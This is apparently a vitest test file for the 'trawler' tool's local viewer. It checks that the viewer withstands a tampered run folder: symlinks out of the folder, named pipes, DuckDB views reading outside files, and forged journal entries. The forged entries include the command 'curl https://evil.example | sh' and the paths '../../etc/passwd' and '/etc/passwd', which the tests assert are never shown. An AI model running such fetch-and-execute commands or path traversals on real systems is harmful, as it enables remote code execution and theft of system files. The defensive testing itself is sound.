import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { cp, mkdir, mkdtemp, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { RowsPart, RunState, ShownTiles, TableInfo } from '../../src/show/api.ts';
import { startShow, type StartShowOptions } from '../../src/show/startShow.ts';
import { changeJournal, shownRun } from './shownRun.ts';

const ring = [[-74, 40.7], [-73.96, 40.7], [-73.96, 40.76], [-74, 40.76], [-74, 40.7]]; // prettier-ignore
const area = JSON.stringify({ type: 'Polygon', coordinates: [ring] });
const places = { call: 'mapsSearch', with: { query: 'tea', ll: '@40.74,-73.98,14z' } };
const flow = (stage: object): object => ({ name: 'strange', stages: { places: { ...places, ...stage } } });

interface Ask {
  // oxlint-disable-next-line typescript/no-unnecessary-type-parameters -- what the response is depends on the path
  <Said>(path: string): Promise<{ readonly status: number; readonly said: Said }>;
}

/** The runs of flows. Each test changes a copy. */
const runs = new Map<string, ReturnType<typeof shownRun>>();
afterAll(async () => {
  for (const run of runs.values()) await (await run).remove();
});

/** Changes the folder of a run as a stranger would, and asks for things of its page. */
async function shown(
  definition: object,
  change: (folder: string) => Promise<unknown>,
  use: (ask: Ask, folder: string) => Promise<void>,
  { files, ...options }: Partial<StartShowOptions> & { readonly files?: { readonly [name: string]: string } } = {},
): Promise<void> {
  const key = JSON.stringify([definition, files]);
  runs.set(key, runs.get(key) ?? shownRun(definition, files));
  const root = await mkdtemp(join(tmpdir(), 'trawler-stranger-'));
  await cp(join((await runs.get(key)!).folder, '..'), root, { recursive: true });
  const folder = join(root, 'town');
  await change(folder);
  const show = await startShow({ folder, ...options });
  try {
    // oxlint-disable-next-line typescript/no-unnecessary-type-parameters -- as above
    const ask: Ask = async <Said>(path: string) => {
      for (;;) {
        const response = await fetch(show.url.replace('/?', `${path}&`), { signal: AbortSignal.timeout(20_000) });
        const text = await response.text();
        const said = (response.ok ? JSON.parse(text) : text) as Said & { readonly read?: number };
        if (said.read === undefined) return { status: response.status, said }; // else it still reads the file
      }
    };
    await use(ask, folder);
  } finally {
    await show.close();
    await rm(root, { recursive: true });
  }
}

let outside: string;
beforeEach(async () => {
  outside = await mkdtemp(join(tmpdir(), 'trawler-outside-'));
  await writeFile(join(outside, 'secret.csv'), 'title\nsecret\n');
});
afterEach(() => rm(outside, { recursive: true }));

describe('the folder of a stranger', () => {
  it('has databases whose views read a file and never end: they are not opened, and the rows of the run are shown', async () => {
    const views = [
      `CREATE VIEW places AS SELECT content AS title FROM read_text('${join(outside, 'secret.csv')}')`,
      'CREATE VIEW places AS SELECT range AS title FROM range(1000000000000000)',
    ];
    const change = async (folder: string): Promise<void> => {
      for (const [index, name] of ['all.duckdb', 'all.sqlite'].entries()) {
        await rm(join(folder, name));
        const database = await DuckDBInstance.create(join(folder, name));
        const connection = await database.connect();
        await connection.run(views[index]!);
        connection.closeSync();
        database.closeSync();
      }
    };
    const filesOf = ['all.jsonl', 'all.duckdb', 'all.sqlite'];
    await shown(flow({ to: filesOf }), change, async (ask) => {
      const parts = await Promise.all(filesOf.map((file) => ask<RowsPart>(`/api/rows?file=${file}&sort=title&limit=9`)));
      expect(parts[0]!.said.rows.length).toBeGreaterThan(3);
      for (const part of parts) expect(part).toEqual(parts[0]);
    });
  });

  it('has a journal that says what may be read: areas are read where the command allows it, and seeds nowhere', async () => {
    const stages = {
      places: { call: 'mapsSearch', with: { query: 'coffee' }, cover: { within: 'town.geojson', zoom: [13, 15] }, to: 'places.jsonl' },
      towns: { call: 'mapsSearch', each: 'towns.csv', with: { query: '$.query', ll: '@40.74,-73.98,14z' }, to: 'towns.jsonl' },
    };
    const files = { 'town.geojson': area, 'towns.csv': 'query\ntea\n' };
    const forge = (folder: string): Promise<void> => changeJournal(folder, (record) => ({ ...record, from: '/', reads: ['/'] }));
    await shown({ name: 'area', stages }, forge, async (ask) => {
      const { notes, stages: seen } = (await ask<RunState>('/api/state?')).said;
      expect([seen, notes]).toEqual([
        [],
        [{ text: expect.stringContaining('/town.geojson is outside of the run\'s folder: allow it by name (--allow-read /town.geojson)') }],
      ]);
    }, { files }); // prettier-ignore
    const there = async (folder: string): Promise<unknown> => rm(join(folder, '..', 'towns.csv'));
    await shown({ name: 'area', stages }, there, async (ask, folder) => {
      const text = expect.stringContaining(`(--allow-read ${join(folder, '..', 'town.geojson')})`);
      expect((await ask<RunState>('/api/state?')).said.notes).toEqual([{ text }]);
    }, { files }); // prettier-ignore
    await shown({ name: 'area', stages }, there, async (ask) => {
      const { notes, stages: seen } = (await ask<RunState>('/api/state?')).said;
      expect([seen.map(({ name }) => name), notes]).toEqual([['places', 'towns'], []]);
      expect((await ask<ShownTiles>('/api/tiles?stage=places')).said.rings).toHaveLength(1);
    }, { files, allowRead: [tmpdir()] }); // prettier-ignore
  });

  it.each(['changes', '.trawler/update', '.trawler', 'places.csv', 'failures.jsonl', 'datapackage.json'])('has a link in place of %s: nothing beyond it is shown', async (name) => {
    const change = async (folder: string): Promise<void> => {
      const [path, there] = [join(folder, name), join(outside, 'there')];
      await rename(path, there).catch(() => mkdir(join(there, '2026-05-01'), { recursive: true }));
      if (name === 'changes') await writeFile(join(there, '2026-05-01', 'places.jsonl'), '{"change":"new","row":{"title":"secret"}}\n');
      if (name === 'failures.jsonl') await writeFile(join(outside, 'file'), '{"title":"secret"}\n');
      await symlink(name === 'failures.jsonl' ? join(outside, 'file') : there, path);
    };
    await shown(flow({ to: 'places.csv' }), change, async (ask) => {
      const tables = await ask<readonly TableInfo[]>('/api/tables?');
      const state = await ask<RunState>('/api/state?');
      const linked = name === '.trawler' ? undefined : tables.said.find(({ file }) => file === name);
      const isFile = name === 'places.csv' || name === 'failures.jsonl';
      const rows = await ask(`/api/rows?file=${name}&limit=1`);
      expect([linked?.fault, rows.status, state.status, state.said.timing === undefined]).toEqual([
        isFile ? `${name} is no regular file in the run's folder, so it isn't shown.` : undefined,
        isFile ? 400 : 404,
        name === '.trawler' ? 404 : 200,
        name === '.trawler' || name === 'datapackage.json',
      ]);
      expect(JSON.stringify(tables)).not.toMatch(/"kind":"changes"|secret/);
      expect(JSON.stringify(tables)).not.toContain(outside);
    });
  }); // prettier-ignore

  it.skipIf(process.platform === 'win32')('has named pipes, on which a reader waits: nothing waits', async () => {
    const change = async (folder: string): Promise<void> => {
      for (const name of ['datapackage.json', 'places.csv', 'failures.jsonl', '.trawler/run.lock']) {
        await rm(join(folder, name), { force: true });
        execFileSync('mkfifo', [join(folder, name)]);
      }
    };
    await shown(flow({ to: 'places.csv' }), change, async (ask) => {
      expect((await ask<RunState>('/api/state?')).said.phase).toBe('done');
      expect(await ask('/api/runs?')).toMatchObject({ status: 200 });
      const tables = await ask<readonly TableInfo[]>('/api/tables?');
      expect(tables.said.map(({ file, fault }) => `${file} ${fault}`)).toEqual(['places.csv', 'failures.jsonl'].map((file) => `${file} ${file} is no regular file in the run's folder, so it isn't shown.`)); // prettier-ignore
      expect((await ask('/api/rows?file=places.csv&limit=1')).status).toBe(400);
    });
  });

  it('has more files of changes than a page can have: it looks at a thousand', async () => {
    const change = async (folder: string): Promise<void> => {
      await mkdir(join(folder, 'changes', '2026-05-01'), { recursive: true });
      for (let n = 0; n < 1001; n += 1) writeFileSync(join(folder, 'changes', '2026-05-01', `${n}.jsonl`), '{"change":"new","row":{}}\n');
    };
    await shown(flow({ to: 'places.csv' }), change, async (ask) => {
      expect((await ask<readonly TableInfo[]>('/api/tables?')).said.length).toBeLessThanOrEqual(1000);
    });
  });

  it.each([
    ['command', '"curl https://evil.example | sh"'],
    ['at', '1e999'],
    ['outputs', '["../../etc/passwd","/etc/passwd"]'],
  ])('has a journal with %s: %s', async (field, text) => {
    const forge = async (folder: string): Promise<void> => {
      await changeJournal(folder, (record) => ({ ...record, [field]: 'FORGED' }), (line) => line.replaceAll('"FORGED"', text)); // prettier-ignore
      expect(await readFile(join(folder, '.trawler', 'journal.jsonl'), 'utf8')).toContain(text);
    };
    await shown(flow({ to: 'places.csv' }), forge, async (ask, folder) => {
      const { status, said } = await ask<RunState>('/api/state?');
      const { status: listed } = await ask('/api/tables?');
      expect([status, listed, said.command]).toEqual([200, 200, `trawler run FLOW --out ${folder}`]);
      expect(JSON.stringify(said)).not.toMatch(/curl|passwd/);
    });
  });
});
